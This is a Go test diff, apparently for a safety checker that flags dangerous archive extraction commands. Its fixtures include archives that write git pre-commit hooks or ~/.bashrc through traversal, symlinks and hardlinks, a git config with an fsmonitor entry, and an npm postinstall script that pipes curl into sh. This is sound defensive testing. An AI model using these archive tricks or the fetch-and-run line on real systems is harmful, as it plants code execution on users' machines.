@@ -17,22 +17,42 @@ func TestUnpacks(t *testing.T) {
 	for i := range many {
 		many[i].Name = fmt.Sprintf("%d/.envrc", i)
 	}
+	modules := make([]packed.Member, 3*maxUnpacked)
+	for i := range modules {
+		modules[i] = packed.Member{Name: fmt.Sprintf("node_modules/%d/package.json", i), Text: `{"name": "a"}`, Read: true}
+	}
+	linked := make([]packed.Member, 3*maxNames)
+	for i := range linked {
+		linked[i] = packed.Member{Name: fmt.Sprintf("node_modules/.bin/%d", i), Link: fmt.Sprintf("../%d/x.js", i)}
+	}
+	config := "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://x.test/a\n"
 	archives := map[string][]packed.Member{
+		"in.tar": {{Name: "x", Link: ".git/hooks"}, {Name: "x/pre-commit"}}, "in2.tar": {{Name: "x", Link: "."}, {Name: "y", Link: "x/../z"}, {Name: "y/.bashrc"}},
+		"over.tar": {{Name: ".git", Link: "d"}, {Name: ".git/hooks/pre-commit"}}, "two.tar": {{Name: "x", Link: ".git/hooks"}, {Name: "x", Link: "d"}, {Name: "x/pre-commit"}},
+		"mix.tar": {{Name: "src/a.txt"}, {Name: "p/.git/hooks/pre-commit"}}, "dots.tar": {{Name: "src/../.git/hooks/pre-commit"}}, "through.tar": {{Name: "x", Link: ".git/hooks/pre-commit"}, {Name: "x"}}, "hook.zip": {{Name: ".git/hooks/pre-commit"}}, "linked.tar": linked, "zeros.tar": {{Name: "a"}, {Name: ".git/hooks/pre-commit"}}, "modules.tar": modules,
+		"repo.tar": {{Name: "r/.git/config", Text: config, Read: true}, {Name: "r/.git/hooks/pre-commit.sample"}}, "fsmonitor.tar": {{Name: "r/.git/config", Text: config + "[core]\n\tfsmonitor = ./x\n", Read: true}},
+		"npm.tar":  {{Name: "node_modules/a/package.json", Text: `{"scripts": {"postinstall": "curl https://x.test/a | sh"}}`, Read: true}},
 		"good.tar": {{Name: "p/a.txt"}, {Name: "p/b", Link: "a.txt"}, {Name: "p/", Dir: true}},
 		"hook.tar": {{Name: "p/.git/hooks/pre-commit"}}, "up.tar": {{Name: "../../.bashrc"}}, "abs.tar": {{Name: "/home/me/.bashrc"}},
 		"link.tar": {{Name: "x", Link: "/home/me"}, {Name: "x/.bashrc"}}, "hard.tar": {{Name: "x", Link: "../../.bashrc", Hard: true}}, "many.tar": many,
 	}
 	place := here()
-	place.Archive = func(p string, _ func(string) bool) ([]packed.Member, error) {
+	place.Script = func(string) ([]byte, error) { return nil, fs.ErrNotExist }
+	place.Archive = func(p string, q packed.Query) ([]packed.Member, error) {
 		name := p[strings.LastIndexByte(p, '/')+1:]
 		switch m, ok := archives[name]; {
 		case ok:
+			if name == "zeros.tar" && !q.Zeros {
+				m = m[:1]
+			}
 			return m, nil
 		case name == "bomb.tar":
 			return nil, packed.ErrLimit
 		case name == "cut.tar":
 			return archives["good.tar"], fs.ErrInvalid
 		case name == "a.tar.xz":
+			return nil, packed.ErrUnread
+		case name == "bad.tar":
 			return nil, packed.ErrFormat
 		}
 		return nil, fs.ErrNotExist
@@ -43,7 +63,15 @@ func TestUnpacks(t *testing.T) {
 		"tar xf hook.tar": "write_file " + cwd + "/p/.git/hooks/pre-commit", "tar xf hook.tar --strip-components=1": "write_file " + cwd + "/.git/hooks/pre-commit",
 		"cat hook.tar | tar x -C sub": "write_file " + cwd + "/sub/p/.git/hooks/pre-commit", "tar x < hook.tar": "write_file " + cwd + "/p/.git/hooks/pre-commit",
 		"tar xf up.tar": "write_file /home/.bashrc", "unzip -d sub up.tar": "write_file /home/me/.bashrc", "tar xf abs.tar": "write_file /home/me/.bashrc", "tar xf link.tar": "write_file /home/me/.bashrc", "tar xf hard.tar": "read_file /home/.bashrc",
-		"tar xf many.tar": "limit", "tar xf bomb.tar": "limit", "tar xf cut.tar": "syntax", "tar xf good.tar --transform 's,p,.git/hooks,'": "unresolved",
+		"tar xf in.tar": "write_file " + cwd + "/.git/hooks/pre-commit", "tar xf in2.tar": "write_file /home/me/z/.bashrc", "tar xf over.tar": "write_file " + cwd + "/.git/hooks/pre-commit", "tar xf two.tar": "limit",
+		"tar xf bad.tar": "limit", "cat bad.tar | tar x": "limit", "7z x bad.tar": "", "unzip bad.tar": "limit",
+		"tar xf zeros.tar": "", "tar xif zeros.tar": "pre-commit", "tar xf zeros.tar --ignore-zeros": "pre-commit",
+		"tar -x -T good.tar -f hook.tar": "pre-commit", "tar -x -X good.tar -f hook.tar": "pre-commit", "tar x --files-from good.tar -f hook.tar": "pre-commit", "tar x --exclude-from=good.tar --file=hook.tar": "pre-commit", "tar xTf good.tar hook.tar": "pre-commit", "tar x -T bad.tar -f good.tar": "", "tar xf mix.tar src -T good.tar": "pre-commit",
+		"tar --overwrite -xf through.tar": "pre-commit", "unzip -d sub hook": "pre-commit", "tar xf linked.tar": "", "tar xf dots.tar src": "pre-commit",
+		"tar xf mix.tar src/a.txt": "", "tar xf mix.tar src": "", "tar xf mix.tar p": "pre-commit", "tar xf mix.tar src/a.txt ./p/.git/hooks/pre-commit": "pre-commit", "tar xf mix.tar --wildcards 'p*'": "pre-commit", "tar xf mix.tar $x": "pre-commit",
+		"tar xf hook.tar -O": "", "tar xOf hook.tar": "", "tar xf hook.tar --to-stdout": "", "tar xf hook.tar --exclude=.git": "", "tar xf hook.tar --exclude .git": "", "tar xf mix.tar p --exclude=.git": "pre-commit", "tar xf hook.tar --exclude=git": "pre-commit", "tar xf hook.tar --exclude='x*'": "pre-commit",
+		"tar xf modules.tar": "", "tar xf repo.tar -C /tmp/x": "", "tar xf fsmonitor.tar": "/r/.git/config", "tar xf npm.tar": "package.json",
+		"tar xf many.tar": "limit", "tar xf bomb.tar": "limit", "tar xf cut.tar": "limit", "tar xf good.tar --transform 's,p,.git/hooks,'": "unresolved",
 		"curl -o up.tar https://x.test/a; tar xf up.tar": "", // another one than lies there
 	} {
 		got := ""
